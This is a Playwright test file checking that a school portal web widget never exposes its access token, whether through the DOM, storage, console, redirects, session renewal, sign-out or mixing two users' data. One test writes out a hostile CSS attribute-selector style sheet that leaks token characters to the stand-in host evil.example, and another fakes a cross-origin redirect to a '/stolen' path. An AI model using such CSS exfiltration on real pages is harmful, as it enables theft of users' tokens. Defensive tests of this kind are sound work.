import { expect, type Page, test, text } from '../support/fixture.ts';
import { nextFrame } from '../support/measures/layout.ts';
import { accessToken } from '../support-widget/token.ts';

/** Requirement P07, where a user or a hostile page could see a token. */

const PORTAL = '<campus-portal tenant="north" language="en_US"></campus-portal>';
const VISITOR = text('school:portal.visitor');
const account = (page: Page) => page.locator('campus-portal [part=account]').first();
const types = (events: readonly { type: string }[]) => events.map(({ type }) => type);

/** Everywhere that a page could find a token, except its own memory. */
const traces = (page: Page, secret: string) =>
  page.evaluate((secret) => {
    const found: string[] = [];
    const look = (where: string, what: string) => {
      if (what.includes(secret)) found.push(where);
    };
    const roots = [...document.querySelectorAll('*')].flatMap(({ shadowRoot }) => shadowRoot ?? []);
    look('DOM', document.documentElement.getHTML({ shadowRoots: roots }) + document.documentElement.outerHTML);
    look('storage', JSON.stringify([{ ...localStorage }, { ...sessionStorage }]));
    look('cookie', document.cookie);
    look('address', location.href + window.name + document.referrer);
    look('history', JSON.stringify(history.state));
    for (const element of document.querySelectorAll('campus-portal')) {
      const names = new Set<string>();
      for (let one: object | null = element; one && one !== HTMLElement.prototype; one = Object.getPrototypeOf(one))
        for (const name of Object.getOwnPropertyNames(one)) names.add(name);
      for (const name of names) {
        if (name === 'values') continue;
        const value: unknown = Reflect.get(element, name);
        if (typeof value === 'string') look(`property ${name}`, value);
      }
    }
    return found;
  }, secret);

test('T1 T3: a token is removed from the DOM at once and sent only in Authorization, however it was provided [P07] [Z06]', async ({
  page,
  embed,
  events,
  platform,
}) => {
  const secret = await accessToken(platform);
  const said: string[] = [];
  const outside: string[] = [];
  let carried = 0;
  page.on('console', (message) => void said.push(message.text()));
  page.on('request', (request) => {
    const { authorization = '', ...headers } = request.headers();
    const rest = request.url() + JSON.stringify(headers) + (request.postData() ?? '');
    if (rest.includes(secret)) outside.push(request.url());
    if (!authorization.includes(secret)) return;
    carried++;
    if (!request.url().startsWith(`${platform.main}/api/`)) outside.push(request.url());
  });
  const targets: Record<string, (token: string) => void> = {
    attribute: (token) => document.querySelector('campus-portal')?.setAttribute('token', token),
    property: (token) => Object.assign(document.querySelector('campus-portal') as object, { token }),
    getToken: (token) =>
      Object.assign(document.querySelector('campus-portal') as object, { getToken: async () => token }),
    'parsed again': (token) => {
      (document.querySelector('main') as HTMLElement).innerHTML =
        `<campus-portal tenant="north" language="en_US" token="${token}"></campus-portal>`;
    },
    cloned: (token) => {
      const old = document.querySelector('campus-portal') as HTMLElement;
      old.setAttribute('token', token);
      old.replaceWith(old.cloneNode(true));
      document.querySelector('campus-portal')?.setAttribute('token', token);
    },
  };
  await embed(PORTAL);
  await expect(account(page)).toContainText(VISITOR);
  for (const [name, target] of Object.entries(targets)) {
    const seenInDom = await page.evaluate(
      ([target, token]) => {
        // biome-ignore lint/security/noGlobalEval: the way is one of those above
        globalThis.eval(`(${target})`)(token);
        return document.documentElement.outerHTML.includes(token);
      },
      [target.toString(), secret] as const,
    );
    expect(seenInDom, name).toBe(false);
    await expect(account(page), name).toContainText('Rain');
    expect(await traces(page, secret), name).toEqual([]);
    await page.evaluate(() => Object.assign(document.querySelector('campus-portal') as object, { token: '' }));
    await expect(account(page)).toContainText(VISITOR);
  }
  expect(carried).toBeGreaterThan(3);
  expect(outside).toEqual([]);
  expect(said.join('\n')).not.toContain(secret);
  expect(JSON.stringify(events())).not.toContain(secret);
});

test('a hostile style sheet and a mutation observer cannot read a token set before the definition (T1) [P07]', async ({
  page,
  embed,
  platform,
}) => {
  const secret = await accessToken(platform);
  const leaks: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    leaks.push(route.request().url());
    return route.abort();
  });
  const rules = [...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_']
    .map((first) => `[token^="${first}"]{background:url(https://evil.example/${first})}`)
    .join('');
  await embed('<p></p>', { head: `<style>${rules}</style>` });
  await page.evaluate(
    async ({ secret, script }) => {
      await import(script);
      new MutationObserver((records) => {
        for (const { target, oldValue, addedNodes } of records) {
          const seen = [
            oldValue,
            (target as Element).outerHTML,
            ...[...addedNodes].map((node) => (node as Element).outerHTML),
          ];
          if (seen.some((one) => one?.includes(secret))) document.title = 'leaked';
        }
      }).observe(document, { subtree: true, childList: true, attributes: true });
      (document.querySelector('main') as HTMLElement).innerHTML =
        `<campus-portal tenant="north" language="en_US" token="${secret}"></campus-portal>`;
    },
    { secret, script: `${platform.main}/widgets/esm/portal.js` },
  );
  await expect(account(page)).toContainText('Rain');
  expect(leaks).toEqual([]);
  expect(await page.title()).toBe('Embedding page');
});

test('getToken is called again after the token is rejected; if the next one is rejected, the session ends in an error (F11) [P07] [I02]', async ({
  page,
  embed,
  events,
  platform,
  guard,
}) => {
  const [learner, teacher] = await Promise.all([accessToken(platform), accessToken(platform, 'teacher')]);
  await embed('<p></p>');
  await page.evaluate(
    ({ tokens }) => {
      const portal = document.createElement('campus-portal');
      portal.setAttribute('tenant', 'north');
      portal.setAttribute('language', 'en_US');
      const left = [...tokens];
      portal.getToken = async () => {
        document.title += '.';
        return left.shift() ?? 'refused-at-once';
      };
      document.querySelector('main')?.append(portal);
    },
    { tokens: ['refused-at-first', learner] },
  );
  await expect(account(page)).toContainText('Rain');
  expect(await page.title()).toBe('Embedding page..');
  expect(types(events()).filter((type) => type.startsWith('campus-session'))).toEqual([
    'campus-session-refreshed',
    'campus-session',
  ]);
  expect(teacher).not.toBe(learner);
  // All later ones are rejected.
  await page.evaluate(() => {
    const portal = document.querySelector('campus-portal') as HTMLElementTagNameMap['campus-portal'];
    let asked = 0;
    portal.getToken = async () => `refused-${++asked}`;
  });
  await expect(page.locator('campus-portal').getByText(text('common:error.tokenFailed')).first()).toBeVisible();
  await expect(page.getByText(VISITOR)).toHaveCount(0);
  await expect.poll(() => types(events())).toContain('campus-session-expired');
  guard.allowConsole(/token-refused/);
  guard.skipAxe('checked in the other tests');
});

test('an expired session is renewed once for all widgets of two tabs (F11) [P07] [Z05]', async ({
  page,
  context,
  embed,
  signInFast,
  platform,
  guard,
}) => {
  guard.allow({ status: 401, url: /\/api\/schools\/v1\/current/ });
  await signInFast();
  const refreshes: string[] = [];
  context.on('request', (request) => {
    if (request.url().endsWith('/session/refresh')) refreshes.push(request.url());
  });
  const other = await context.newPage();
  await embed(PORTAL.repeat(3), { origin: 'main' });
  await embed(PORTAL.repeat(2), { origin: 'main', page: other });
  for (const tab of [page, other]) await expect(account(tab)).toContainText('Rain');
  guard.skipAxe('five equal portals on one page name their regions alike');
  // The access cookie expires, as it does after ten minutes; the refresh cookie stays.
  const cookies = await context.cookies();
  const refresh = cookies.filter(({ name }) => /refresh/i.test(name));
  expect(refresh.length, cookies.map(({ name }) => name).join()).toBe(1);
  await context.clearCookies({ name: new RegExp(`^(?!${refresh[0]?.name}$)`) });
  await Promise.all([page.reload(), other.reload()]);
  for (const tab of [page, other]) await expect(account(tab)).toContainText('Rain');
  expect(refreshes).toHaveLength(1);
  expect(platform.main).toBeTruthy();
});

test('a session whose renewal is rejected ends with one campus-session-expired [P07]', async ({
  page,
  context,
  embed,
  events,
  signInFast,
  guard,
}) => {
  guard.allow({ status: 401, url: /\/api\// });
  await signInFast();
  await embed('<campus-sign-in tenant="north" language="en_US"></campus-sign-in>', { origin: 'main' });
  const goOn = page.getByRole('button', { name: text('sign-in-more:signedIn.goOn'), exact: true });
  await expect(goOn).toBeVisible();
  await context.clearCookies();
  await page.evaluate(() => addEventListener('campus-navigate', (event) => event.preventDefault()));
  await goOn.click();
  await expect.poll(() => types(events())).toContain('campus-session-expired');
  await expect(page.getByLabel(text('sign-in:form.account'))).toBeVisible();
  expect(types(events()).filter((type) => type === 'campus-session-expired')).toHaveLength(1);
});

test('signing out in one tab clears the other and a page restored from the bfcache (T2) [P07]', async ({
  page,
  context,
  embed,
  events,
  signInFast,
  platform,
}) => {
  await signInFast();
  const other = await context.newPage();
  await embed(PORTAL, { origin: 'main', page: other });
  await embed(PORTAL, { origin: 'main' });
  for (const tab of [page, other]) await expect(account(tab)).toContainText('Rain');
  // This tab navigates away while it shows the user's name.
  await page.goto(`${platform.main}/healthz`);
  const leaving = await context.newPage();
  await embed('<campus-sign-out tenant="north" language="en_US"></campus-sign-out>', { origin: 'main', page: leaving });
  await expect(account(other)).toContainText(VISITOR);
  await expect.poll(() => types(events(other)).filter((type) => type === 'campus-signed-out')).toHaveLength(1);
  await page.goBack();
  await expect(account(page)).toContainText(VISITOR);
  await expect(page.getByText('Rain')).toHaveCount(0);
});

test('a response that redirects to another origin fails, and the token is not sent there (T4) [P07]', async ({
  page,
  embed,
  platform,
  guard,
}) => {
  guard.allow({ url: /\/api\/schools\/v1\/north/ });
  guard.allowConsole(/./);
  const token = await accessToken(platform);
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(platform.providers)) elsewhere.push(request.headers().authorization ?? 'none');
  });
  await page.route('**/api/schools/v1/north', (route) =>
    route.fulfill({
      status: 302,
      headers: { location: `${platform.providers}/stolen`, 'access-control-allow-origin': platform.assets },
    }),
  );
  await embed(`<campus-portal tenant="north" language="en_US" token="${token}"></campus-portal>`);
  await expect(page.locator('campus-portal').getByRole('alert')).toContainText(text('school:portal.failed'));
  expect(elsewhere).toEqual([]);
});

test('widgets with tokens of two users never show each other’s data (T6) [P07]', async ({
  page,
  embed,
  platform,
  guard,
}) => {
  guard.skipAxe('two equal portals on one page name their regions alike');
  const tokens = await Promise.all([accessToken(platform), accessToken(platform, 'teacher')]);
  const names = ['Rain', 'Łucja'];
  // Responses arrive in a different order.
  let turn = 0;
  await page.route('**/api/auth/v1/session', async (route) => {
    const position = turn++;
    const response = await route.fetch();
    await new Promise((resolve) => setTimeout(resolve, (position * 37) % 90));
    await route.fulfill({ response }).catch(() => {});
  });
  await embed(PORTAL.repeat(2));
  const places = [0, 1].map((index) => page.locator('campus-portal [part=account]').nth(index));
  await expect(places[1] as ReturnType<Page['locator']>).toContainText(VISITOR);
  for (let round = 0; round < 6; round++) {
    const order = round % 2 ? [0, 1] : [1, 0];
    await page.evaluate(
      ({ tokens, order }) => {
        for (const [index, portal] of [...document.querySelectorAll('campus-portal')].entries()) {
          portal.token = tokens[1 - (order[index] ?? 0)] ?? '';
          portal.token = tokens[order[index] ?? 0] ?? '';
        }
      },
      { tokens, order },
    );
    for (const [index, place] of places.entries()) await expect(place).toContainText(names[order[index] ?? 0] ?? '-');
    await nextFrame(page);
    for (const [index, place] of places.entries()) {
      await expect(place).not.toContainText(names[1 - (order[index] ?? 0)] ?? '-');
    }
  }
});
